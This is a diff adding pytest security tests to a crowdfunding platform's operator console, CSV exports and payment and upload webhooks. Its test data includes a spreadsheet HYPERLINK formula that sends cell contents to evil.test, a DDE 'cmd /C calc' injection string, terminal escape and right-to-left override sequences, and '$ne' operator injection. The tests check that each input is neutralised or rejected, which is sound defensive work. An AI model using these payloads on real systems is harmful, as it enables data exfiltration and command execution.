@@ -9,6 +9,8 @@ README's "Attack catalogue" section lists where.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import time
 import tomllib
@@ -769,3 +771,108 @@ def test_a_notification_for_another_users_avatar_folder_changes_nothing(
             "resource_type": "image", "bytes": 90_000}  # fmt: skip
     assert cloudinary_notify(service, note).get_json()["outcome"].startswith("refused")
     assert row(db, "profiles", other_user.id)["avatar_url"] is None
+
+
+# Operators' tools and request shapes -------------------------------------------------------
+
+
+@pytest.fixture
+def console_cli(operator_cli, monkeypatch):
+    monkeypatch.setenv("COLUMNS", "1000")  # one line per row
+    return operator_cli
+
+
+def test_rich_markup_in_a_comment_cannot_crash_or_restyle_the_console(
+    console_cli, as_user, user, campaign
+):
+    body = "Bonjour [/oops] [red]URGENT[/red] [link=https://evil.test]payez ici[/link]"
+    as_user(user).insert("comments", {"campaign_id": campaign["id"], "body": body})
+    result = console_cli("comments", "list")
+    assert result.exit_code == 0, result.output
+    assert body in result.stdout
+
+
+def test_terminal_escapes_in_a_comment_never_reach_the_operators_terminal(
+    console_cli, as_user, user, campaign
+):
+    body = "ok\x1b[2J\x1b[1A\r\x9b31m faux \u202etxt.exe"
+    as_user(user).insert("comments", {"campaign_id": campaign["id"], "body": body})
+    result = console_cli("comments", "list")
+    assert result.exit_code == 0, result.output
+    assert "ok\\x1b[2J\\x1b[1A\\r\\x9b31m faux \\u202etxt.exe" in result.stdout
+    assert not any(c in result.stdout for c in "\x1b\x9b\r\u202e")
+
+
+def test_a_display_name_with_markup_cannot_break_the_users_listing(console_cli, as_user, user):
+    name = "Fatou [/oops] [bold]Admin[/bold]"
+    as_user(user).update("profiles", {"display_name": name}, {"id": user.id})
+    result = console_cli("users", "list")
+    assert result.exit_code == 0, result.output
+    assert name in result.stdout
+
+
+def test_a_formula_in_a_campaign_title_is_neutralised_in_the_csv_export(
+    console_cli, owner, make_campaign
+):
+    title = '=HYPERLINK("https://evil.test/?d="&A1,"Soins")'
+    make_campaign(owner, "active", title=title)
+    result = console_cli("export", "campaigns")
+    assert result.exit_code == 0, result.output
+    (row,) = csv.DictReader(io.StringIO(result.stdout))
+    assert row["title"] == "'" + title
+    assert row["goal_amount"] == str(CAMPAIGN["goal_amount"])  # numbers stay numbers
+
+
+def test_a_formula_in_a_donor_name_is_neutralised_in_the_csv_export(console_cli, donate, campaign):
+    donate(campaign, 5000, donor_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    result = console_cli("export", "donations")
+    assert result.exit_code == 0, result.output
+    (row,) = csv.DictReader(io.StringIO(result.stdout))
+    assert row["donor_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["amount"] == "5000"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [{"target": ["document"]}, {"target": {"$ne": "avatar"}}, {"target": "document",
+     "campaign_id": ["x"], "document_type": "medical_document"}],
+)  # fmt: skip
+def test_a_list_where_the_signature_expects_a_string_is_a_422(db, service, owner, campaign, body):
+    response = sign_upload(service, owner.token, **body)
+    assert response.status_code == 422, response.get_json()
+    error = response.get_json()["error"]
+    assert error["code"] == "invalid_request"
+    assert {d["field"] for d in error["details"]} & {"target", "campaign_id"}
+    assert "signature" not in response.get_json()
+
+
+def test_a_signed_cloudinary_notification_of_the_wrong_shape_writes_nothing(db, service, campaign):
+    note = upload_note(campaign["id"], public_id=["africagnotte/campaigns/x"], context="x")
+    response = cloudinary_notify(service, note)
+    assert response.status_code == 422, response.get_json()
+    assert db.sql("select 1 from private.media_notifications") == []
+    assert db.sql("select 1 from public.campaign_media") == []
+
+
+@pytest.mark.parametrize(
+    "change",
+    [{"id": None}, {"created": "hier"}, {"created": 10**20}, {"type": ["charge.refunded"]}],
+)
+def test_a_signed_stripe_event_of_the_wrong_shape_is_a_4xx_and_credits_nothing(
+    db, post_event, pledge, campaign, change
+):
+    response = post_event({**completed(pledge), **change})
+    assert 400 <= response.status_code < 500, response.get_json()
+    assert response.get_json()["error"]["code"]
+    assert db.sql("select 1 from private.webhook_events") == []
+    assert collected(db, campaign) == 0
+
+
+def test_a_stripe_signature_in_non_ascii_characters_is_a_400(db, service, pledge):
+    payload = json.dumps(completed(pledge)).encode()
+    response = service.post(
+        "/webhooks/stripe", data=payload, content_type="application/json",
+        headers={"Stripe-Signature": "t=1,v1=é"},
+    )  # fmt: skip
+    assert response.status_code == 400
+    assert db.sql("select 1 from private.webhook_events") == []
